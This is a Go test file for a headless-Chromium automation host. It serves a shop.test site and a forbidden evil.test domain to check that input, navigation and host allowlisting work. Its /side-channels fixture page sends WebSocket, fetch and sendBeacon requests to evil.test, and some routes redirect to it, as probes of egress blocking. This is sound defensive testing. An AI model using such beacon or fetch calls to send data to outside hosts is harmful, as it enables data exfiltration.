package browser

import (
	"bytes"
	"context"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/gemini-supply/gemini-supply/internal/config"
	"github.com/gemini-supply/gemini-supply/internal/demostore"
	"github.com/gemini-supply/gemini-supply/internal/screen"
	"github.com/gemini-supply/gemini-supply/internal/store"
	"github.com/gemini-supply/gemini-supply/internal/testwait"
)

// requireBrowser fails (or, with -short, skips) when the browser
// environment from scripts/setup.sh is missing.
func requireBrowser(t testing.TB) {
	t.Helper()
	if testing.Short() {
		t.Skip("browser test: needs Chromium (skipped with -short)")
	}
	if os.Getenv("GEMINI_SUPPLY_BROWSER_EXECUTABLE") == "" || os.Getenv("PLAYWRIGHT_DRIVER_PATH") == "" {
		t.Fatal("GEMINI_SUPPLY_BROWSER_EXECUTABLE / PLAYWRIGHT_DRIVER_PATH are not set: run `make test`, or `eval \"$(bash scripts/setup.sh)\"` first")
	}
}

// logBuffer collects every log record as text, for asserting what was
// (and was not) logged.
type logBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (l *logBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.Write(p)
}

func (l *logBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.String()
}

func (l *logBuffer) logger() *slog.Logger {
	return slog.New(slog.NewTextHandler(l, &slog.HandlerOptions{Level: slog.LevelDebug}))
}

func baseOptions(t testing.TB, profile store.Profile, dir string, rules string, logs *logBuffer) Options {
	o := Options{
		ExecutablePath: os.Getenv("GEMINI_SUPPLY_BROWSER_EXECUTABLE"),
		ProfileDir:     dir,
		Headless:       true,
		Store:          profile,
		SkipAuthCheck:  true,
		// Login steps without their own bound (opening the login panel…)
		// get a generous one on a loaded machine.
		LoginStepTimeout: patience,
	}
	if rules != "" {
		o.ExtraArgs = []string{"--host-resolver-rules=" + rules}
	}
	if logs != nil {
		o.Logger = logs.logger()
	}
	return o
}

func launch(t testing.TB, o Options) *Host {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	h, err := Launch(ctx, o)
	if err != nil {
		t.Fatalf("Launch: %v", err)
	}
	return h
}

func closeHost(t testing.TB, h *Host) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	if err := h.Close(ctx); err != nil {
		t.Errorf("Host.Close: %v", err)
	}
}

func newTab(t testing.TB, h *Host) *Tab {
	t.Helper()
	tab, err := h.NewTab(testCtx(t))
	if err != nil {
		t.Fatalf("NewTab: %v", err)
	}
	t.Cleanup(func() { _ = tab.Close() })
	return tab
}

// patience bounds every wait of these tests: long enough for a loaded
// machine (a wait ends at its event; the bound only ends a hang).
const patience = 60 * time.Second

func testCtx(t testing.TB) context.Context {
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	t.Cleanup(cancel)
	return ctx
}

// norm converts viewport pixels (1440x900) to the model's 0–999 point.
func norm(x, y int) screen.Point {
	return screen.Point{X: (x*1000 + DefaultWidth/2) / DefaultWidth, Y: (y*1000 + DefaultHeight/2) / DefaultHeight}
}

// eval runs JS in the tab's page (test-only access to the page).
func eval(t testing.TB, tab *Tab, js string, args ...any) any {
	t.Helper()
	v, err := tab.page.Evaluate(js, args...)
	if err != nil {
		t.Fatalf("evaluate %q: %v", js, err)
	}
	return v
}

// waitFor polls cond until it holds or the deadline passes.
func waitFor(t testing.TB, what string, d time.Duration, cond func() bool) {
	t.Helper()
	testwait.Until(t, what, d, cond)
}

func mustDo(t testing.TB, what string, err error) {
	t.Helper()
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
}

// ---- shared fixtures (closed in TestMain) ----

var (
	shared     sync.Mutex
	demoFix    *demoFixture
	siteFix    *siteFixture
	fixClosers []func()
)

// TestMain closes the shared fixtures, then the Playwright driver every
// Host of this test binary shared (runDriver).
func TestMain(m *testing.M) {
	code := m.Run()
	shared.Lock()
	for i := len(fixClosers) - 1; i >= 0; i-- {
		fixClosers[i]()
	}
	shared.Unlock()
	StopSharedDriver()
	os.Exit(code)
}

// demoFixture is a demo store and a Host on it, logged out, shared by the
// tests that do not change the session.
type demoFixture struct {
	store *demostore.Server
	host  *Host
	logs  *logBuffer
}

func sharedDemo(t testing.TB) *demoFixture {
	t.Helper()
	requireBrowser(t)
	shared.Lock()
	defer shared.Unlock()
	if demoFix != nil {
		return demoFix
	}
	s, err := demostore.Start(context.Background(), demostore.Options{})
	if err != nil {
		t.Fatalf("demostore.Start: %v", err)
	}
	dir, err := os.MkdirTemp("", "browser-demo-profile-")
	if err != nil {
		t.Fatal(err)
	}
	logs := &logBuffer{}
	o := baseOptions(t, store.Demo(), dir, s.HostResolverRules(), logs)
	user, pass := s.Credentials()
	o.Username, o.Password = user, config.Secret(pass)
	h := launch(t, o)
	demoFix = &demoFixture{store: s, host: h, logs: logs}
	fixClosers = append(fixClosers, func() {
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		defer cancel()
		_ = h.Close(ctx)
		_ = s.Close()
		_ = os.RemoveAll(dir)
	})
	return demoFix
}

// siteFixture is a test web site under the names shop.test (allowed) and
// evil.test (not allowed), with pages for each behaviour, and a Host on it.
type siteFixture struct {
	srv   *httptest.Server
	host  *Host
	rules string
	hits  sync.Map // "host path" -> *atomic.Int64
	logs  *logBuffer
	// release unblocks /slow requests.
	release chan struct{}
}

func (f *siteFixture) count(host, path string) int64 {
	v, ok := f.hits.Load(host + " " + path)
	if !ok {
		return 0
	}
	return v.(*atomic.Int64).Load()
}

// hostHits sums the hits of every path of a host.
func (f *siteFixture) hostHits(host string) int64 {
	var n int64
	f.hits.Range(func(k, v any) bool {
		if strings.HasPrefix(k.(string), host+" ") {
			n += v.(*atomic.Int64).Load()
		}
		return true
	})
	return n
}

// blockedPathHits sums the hits of paths the test profile blocks.
func (f *siteFixture) blockedPathHits() int64 {
	p := siteProfile()
	var n int64
	f.hits.Range(func(k, v any) bool {
		_, path, _ := strings.Cut(k.(string), " ")
		if p.PathBlocked(path) {
			n += v.(*atomic.Int64).Load()
		}
		return true
	})
	return n
}

func siteProfile() store.Profile {
	p := store.Demo()
	p.Name = "test"
	p.HomeURL = "http://shop.test/"
	p.AllowedHosts = []string{"shop.test"}
	p.LoginHosts = nil
	p.IgnoreHTTPSErrors = false
	p.AuthMarkerSelector = "#signed-in"
	return p
}

func sharedSite(t testing.TB) *siteFixture {
	t.Helper()
	requireBrowser(t)
	shared.Lock()
	defer shared.Unlock()
	if siteFix != nil {
		return siteFix
	}
	f := newSite(t)
	dir, err := os.MkdirTemp("", "browser-site-profile-")
	if err != nil {
		t.Fatal(err)
	}
	f.logs = &logBuffer{}
	f.host = launch(t, baseOptions(t, siteProfile(), dir, f.rules, f.logs))
	siteFix = f
	fixClosers = append(fixClosers, func() {
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		defer cancel()
		_ = f.host.Close(ctx)
		f.close()
		_ = os.RemoveAll(dir)
	})
	return f
}

func (f *siteFixture) close() {
	select {
	case <-f.release:
	default:
		close(f.release)
	}
	f.srv.Close()
}

// newSite starts the test site without a Host.
func newSite(t testing.TB) *siteFixture {
	f := &siteFixture{release: make(chan struct{})}
	f.srv = httptest.NewServer(http.HandlerFunc(f.serve))
	f.rules = fmt.Sprintf("MAP shop.test %s, MAP evil.test %s", f.srv.Listener.Addr(), f.srv.Listener.Addr())
	return f
}

func (f *siteFixture) serve(w http.ResponseWriter, r *http.Request) {
	host, _, err := net.SplitHostPort(r.Host)
	if err != nil {
		host = r.Host
	}
	v, _ := f.hits.LoadOrStore(host+" "+r.URL.Path, new(atomic.Int64))
	v.(*atomic.Int64).Add(1)
	if host != "shop.test" {
		w.Header().Set("Content-Type", "image/gif")
		w.WriteHeader(http.StatusOK)
		return
	}
	html := func(body string) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Cache-Control", "no-store")
		fmt.Fprintf(w, `<!doctype html><html><head><meta charset="utf-8"><title>%s</title><style>*{box-sizing:border-box}body{margin:0;font:16px sans-serif}</style></head><body>%s</body></html>`, r.URL.Path, body)
	}
	switch r.URL.Path {
	case "/":
		html(`<h1 style="margin-top:60px">shop.test</h1>`)
	case "/keys":
		html(keysPage)
	case "/clicks":
		html(clicksPage)
	case "/tall":
		html(tallPage)
	case "/color":
		c := r.URL.Query().Get("c")
		if c == "" || strings.ContainsAny(c, `<>"'`) {
			c = "white"
		}
		html(fmt.Sprintf(`<div id="bg" style="position:fixed;inset:0;background:%s"></div><input id="in" style="position:absolute;left:100px;top:300px;width:600px;height:40px">`, c))
	case "/redirect-checkout":
		http.Redirect(w, r, "/en/checkout", http.StatusFound)
	case "/redirect-evil":
		http.Redirect(w, r, "http://evil.test/landing", http.StatusFound)
	case "/redirect-ok":
		http.Redirect(w, r, "/color?c=green", http.StatusFound)
	case "/img-redirect":
		http.Redirect(w, r, "http://evil.test/pixel.gif", http.StatusFound)
	case "/side-channels":
		html(`<img id="img" src="/img-redirect"><script>
  window.results = {};
  try { const ws = new WebSocket('ws://evil.test/ws'); ws.onerror = () => { window.results.ws = 'error'; }; ws.onopen = () => { window.results.ws = 'open'; }; } catch (e) { window.results.ws = 'threw'; }
  fetch('http://evil.test/fetch', {mode: 'no-cors'}).then(() => { window.results.fetch = 'ok'; }, () => { window.results.fetch = 'error'; });
  navigator.sendBeacon && navigator.sendBeacon('http://evil.test/beacon', 'x');
</script>`)
	case "/popups":
		html(`<a id="ok" href="/color?c=blue" target="_blank" style="position:absolute;left:0;top:100px;width:300px;height:100px">ok</a>
<a id="evil" href="http://evil.test/offer" target="_blank" style="position:absolute;left:400px;top:100px;width:300px;height:100px">evil</a>
<a id="co" href="/checkout" target="_blank" style="position:absolute;left:800px;top:100px;width:300px;height:100px">checkout</a>
<button id="open" onclick="window.open('/color?c=purple','_blank','noopener')" style="position:absolute;left:0;top:300px;width:300px;height:100px">open</button>`)
	case "/sandbox":
		href := r.URL.Query().Get("href")
		if strings.ContainsAny(href, `<>"'`) {
			href = "about:blank"
		}
		html(fmt.Sprintf(`<iframe sandbox="allow-popups" style="position:absolute;left:0;top:100px;width:400px;height:200px;border:0" srcdoc="<a target=_blank href='%s' style='display:block;width:300px;height:100px;background:#ccc'>open</a>"></iframe>`, href))
	case "/spa":
		html(`<div id="route" style="margin-top:60px">start</div><script>
  window.go = (p) => { history.pushState({p}, '', p); document.getElementById('route').textContent = p; };
  window.swap = (p) => { history.replaceState({p}, '', p); document.body.innerHTML = '<div id="route">' + p + '</div>'; };
</script>`)
	case "/slow":
		select {
		case <-f.release:
		case <-r.Context().Done():
		case <-time.After(30 * time.Second):
		}
		html(`slow`)
	default:
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!doctype html><title>%s</title><h1 id="page">%s</h1>`, r.URL.Path, r.URL.Path)
	}
}

const keysPage = `<input id="in" style="position:absolute;left:100px;top:100px;width:800px;height:40px">
<input id="other" value="other" style="position:absolute;left:100px;top:200px;width:800px;height:40px">
<script>
  window.events = [];
  const el = document.getElementById('in');
  for (const type of ['keydown', 'keyup', 'keypress', 'input']) {
    el.addEventListener(type, (e) => window.events.push(type + ':' + (e.key ?? e.inputType ?? '')));
  }
  window.addEventListener('keydown', (e) => { if (e.target !== el) window.events.push('win-keydown:' + e.key); });
</script>`

// clicksPage: a 4x4 grid of boxes, each recording the clicks it gets.
var clicksPage = func() string {
	var b strings.Builder
	b.WriteString(`<script>window.clicks = [];</script>`)
	for row := 0; row < 4; row++ {
		for col := 0; col < 4; col++ {
			id := "b" + strconv.Itoa(row*4+col)
			fmt.Fprintf(&b, `<div id="%s" class="box" style="position:absolute;left:%dpx;top:%dpx;width:360px;height:225px;border:1px solid #ccc">%s</div>`,
				id, col*360, row*225, id)
		}
	}
	b.WriteString(`<p id="para" style="position:absolute;left:400px;top:240px;width:600px">alpha beta gamma</p>
<script>
  for (const el of document.querySelectorAll('.box')) {
    el.addEventListener('click', (e) => window.clicks.push(el.id + ':click:' + e.button + ':' + e.detail));
    el.addEventListener('dblclick', (e) => window.clicks.push(el.id + ':dblclick'));
    el.addEventListener('contextmenu', (e) => { e.preventDefault(); window.clicks.push(el.id + ':contextmenu:' + e.button); });
    el.addEventListener('auxclick', (e) => window.clicks.push(el.id + ':auxclick:' + e.button));
    el.addEventListener('mousedown', (e) => window.clicks.push(el.id + ':down:' + e.button));
    el.addEventListener('mouseup', (e) => window.clicks.push(el.id + ':up:' + e.button));
    el.addEventListener('mouseenter', () => window.clicks.push(el.id + ':enter'));
  }
</script>`)
	return b.String()
}()

const tallPage = `<div style="height:5000px;width:4000px;background:linear-gradient(#fff,#000)"></div>
<div id="inner" style="position:fixed;left:100px;top:100px;width:400px;height:300px;overflow:auto;background:#eee"><div style="height:3000px">inner</div></div>`

// chromiumPID reads the browser's PID from the profile's SingletonLock
// ("hostname-pid").
func chromiumPID(t testing.TB, profileDir string) int {
	t.Helper()
	// The full browser names itself in the profile's SingletonLock; the
	// headless shell keeps no such lock, so the browser process is also
	// found by its command line (its --user-data-dir, and no --type= of
	// a child process).
	if link, err := os.Readlink(filepath.Join(profileDir, "SingletonLock")); err == nil {
		i := strings.LastIndexByte(link, '-')
		if pid, err := strconv.Atoi(link[i+1:]); err == nil && pid > 0 {
			return pid
		}
	}
	procs, err := os.ReadDir("/proc")
	if err != nil {
		t.Fatalf("listing processes: %v", err)
	}
	for _, e := range procs {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err != nil {
			continue
		}
		args := strings.Split(string(b), "\x00")
		if slices.Contains(args, "--user-data-dir="+profileDir) && !slices.ContainsFunc(args, func(a string) bool { return strings.HasPrefix(a, "--type=") }) {
			return pid
		}
	}
	t.Fatalf("no Chromium browser process for the profile %s", profileDir)
	return 0
}
